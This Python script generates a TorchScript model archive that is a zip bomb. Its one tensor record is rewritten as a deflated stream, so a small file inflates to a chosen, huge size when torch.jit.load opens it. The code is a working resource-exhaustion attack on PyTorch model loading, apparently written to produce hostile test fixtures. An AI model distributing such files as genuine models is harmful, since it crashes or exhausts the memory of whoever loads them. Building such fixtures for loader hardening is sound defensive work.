#!/usr/bin/python3
"""Writes a TorchScript archive that is a zip bomb (hostile
models): a real scripted module whose one tensor record is stored DEFLATED
and inflates to INFLATED_BYTES of zeros. torch.jit.save writes records
uncompressed; torch.jit.load inflates whatever the archive holds, so a file
of about INFLATED_BYTES / 1000 takes INFLATED_BYTES of memory to load.

Usage: make_zip_bomb.py OUT.pt INFLATED_BYTES      (needs torch)
"""
import io
import sys
import zipfile

import torch


class Bomb(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.ones(4))

    def forward(self, x):
        return x * self.w.sum()


def main(out, inflated_bytes):
    saved = io.BytesIO()
    torch.jit.save(torch.jit.script(Bomb()), saved)
    source = zipfile.ZipFile(io.BytesIO(saved.getvalue()))
    with zipfile.ZipFile(out, "w") as bomb:
        for info in source.infolist():
            data = source.read(info.filename)
            if not info.filename.endswith("/data/0"):
                bomb.writestr(info, data)
                continue
            # The parameter's 16 bytes, then zeros, deflated as written.
            record = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            record.compress_type = zipfile.ZIP_DEFLATED
            with bomb.open(record, "w", force_zip64=True) as f:
                chunk = data + bytes((16 << 20) - len(data))
                left = inflated_bytes
                while left > 0:
                    f.write(chunk[:left])
                    left -= len(chunk)
                    chunk = bytes(16 << 20)


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    main(sys.argv[1], int(sys.argv[2]))
